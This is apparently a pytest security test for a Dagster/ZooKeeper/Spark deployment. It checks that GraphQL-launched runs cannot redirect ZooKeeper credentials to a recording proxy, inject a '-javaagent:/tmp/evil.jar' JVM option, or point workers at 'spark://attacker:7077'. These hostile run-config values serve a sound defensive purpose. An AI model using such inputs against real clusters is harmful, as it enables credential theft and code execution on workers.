"""Whoever reaches Dagster's webserver cannot point the cluster's credentials elsewhere or change
what the workers run (issue: control room security, attack 1).

A real ``dagster-webserver`` serves the project's ``definitions`` code location with the
environment ``deployments/cluster/bin/dagster.sh`` gives it (the secured cluster's ZooKeeper and
digest credentials), runs launched at once (``DefaultRunCoordinator``). Through plain GraphQL, as
any client that reaches the port could:

* a ``stream_ops_kill`` run whose run config sets ``resources.zookeeper.config.hosts`` to an
  address of the attacker's (a recording TCP proxy in front of the real ZooKeeper, so a run that
  connected would complete its session and send the digest) is refused, and nothing reaches it;
* a ``stream_ops_worker`` run replacing ``resources.pyspark.config.spark_config`` (which would
  choose the JVM options of the workers' Spark) or the cluster paths is refused.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import SecuredCluster
from e2e_helpers import graphql

from stream_ops.ports import free_port
from stream_ops.runtime.processes import stop_process

PROJECT_ROOT = Path(__file__).resolve().parents[3]

LAUNCH = """
mutation Launch($params: ExecutionParams!) {
  launchRun(executionParams: $params) {
    __typename
    ... on RunConfigValidationInvalid { errors { message } }
    ... on PythonError { message }
  }
}
"""
RUNS = "query { runsOrError { ... on Runs { results { runId jobName } } } }"


class RecordingProxy:
    """A TCP proxy to ``upstream`` that keeps every byte clients send through it."""

    def __init__(self, upstream: tuple[str, int]) -> None:
        self.upstream = upstream
        self.received = bytearray()
        self.connections = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            self.connections += 1
            server = socket.create_connection(self.upstream)
            threading.Thread(target=self._pipe, args=(client, server, True), daemon=True).start()
            threading.Thread(target=self._pipe, args=(server, client, False), daemon=True).start()

    def _pipe(self, source: socket.socket, target: socket.socket, record: bool) -> None:
        try:
            while data := source.recv(65536):
                if record:
                    self.received += data
                target.sendall(data)
        except OSError:
            pass
        finally:
            for s in (source, target):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def close(self) -> None:
        self._listener.close()


def launch(url: str, job: str, run_config: dict[str, Any]) -> dict[str, Any]:
    selector = {"repositoryLocationName": "definitions", "repositoryName": "__repository__", "jobName": job}
    return graphql(url, LAUNCH, {"params": {"selector": selector, "runConfigData": run_config}})["launchRun"]


@pytest.fixture(scope="module")
def webserver(secured_cluster: SecuredCluster, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """``dagster-webserver`` on loopback with the environment bin/dagster.sh gives it."""
    dagster_home = tmp_path_factory.mktemp("dagster-home")
    (dagster_home / "dagster.yaml").write_text(
        "run_coordinator:\n  module: dagster._core.run_coordinator\n  class: DefaultRunCoordinator\n"
        "telemetry:\n  enabled: false\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith(("STREAM_OPS_", "DAGSTER_"))}
    env.update(
        DAGSTER_HOME=str(dagster_home),
        STREAM_OPS_ZOOKEEPER=secured_cluster.zk_config.hosts,
        STREAM_OPS_CHROOT=secured_cluster.zk_config.chroot,
        STREAM_OPS_HOME=str(secured_cluster.home),
        STREAM_OPS_ZK_AUTH=secured_cluster.zk_config.auth_credentials() or "",
    )
    port = free_port()
    exe = Path(sys.executable).with_name("dagster-webserver")
    log = dagster_home / "webserver.log"
    with open(log, "ab") as out:
        proc = subprocess.Popen(
            [str(exe), "-m", "definitions", "-h", "127.0.0.1", "-p", str(port)],
            cwd=PROJECT_ROOT,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 120
        while True:
            assert proc.poll() is None, f"dagster-webserver exited:\n{log.read_text()[-4000:]}"
            try:
                with urllib.request.urlopen(f"{url}/server_info", timeout=1):
                    break
            except OSError:
                assert time.monotonic() < deadline, f"dagster-webserver did not answer:\n{log.read_text()[-4000:]}"
                time.sleep(0.3)
        yield url
    finally:
        stop_process(proc)


def test_run_config_cannot_send_the_zookeeper_digest_to_another_address(secured_cluster: SecuredCluster, webserver: str) -> None:
    host, port = secured_cluster.zk_config.hosts.split(",")[0].rsplit(":", 1)
    attacker = RecordingProxy((host, int(port)))
    try:
        result = launch(
            webserver,
            "stream_ops_kill",
            {
                "ops": {"kill_topology": {"config": {"topology": "wordcount"}}},
                "resources": {
                    "zookeeper": {"config": {"hosts": f"127.0.0.1:{attacker.port}", "auth_digest": {"env": "STREAM_OPS_ZK_AUTH"}}}
                },
            },
        )
        assert result["__typename"] == "RunConfigValidationInvalid", result
        assert any("hosts" in e["message"] for e in result["errors"]), result
        runs = graphql(webserver, RUNS)["runsOrError"]["results"]
        assert not [r for r in runs if r["jobName"] == "stream_ops_kill"], runs
        time.sleep(0.5)  # a launched run would connect within a few seconds; none was launched
        password = (secured_cluster.zk_config.auth_credentials() or "").split(":", 1)[1]
        assert attacker.connections == 0 and password.encode() not in attacker.received
    finally:
        attacker.close()


@pytest.mark.parametrize(
    ("resource", "config"),
    [
        ("pyspark", {"spark_config": {"spark.driver.extraJavaOptions": "-javaagent:/tmp/evil.jar"}}),
        ("stream_cluster", {"root": "/tmp/elsewhere", "spark_master": "spark://attacker:7077"}),
    ],
)
def test_run_config_cannot_change_what_workers_run(webserver: str, resource: str, config: dict[str, Any]) -> None:
    result = launch(webserver, "stream_ops_worker", {"resources": {resource: {"config": config}}})
    assert result["__typename"] == "RunConfigValidationInvalid", result
    runs = graphql(webserver, RUNS)["runsOrError"]["results"]
    assert not [r for r in runs if r["jobName"] == "stream_ops_worker"], runs
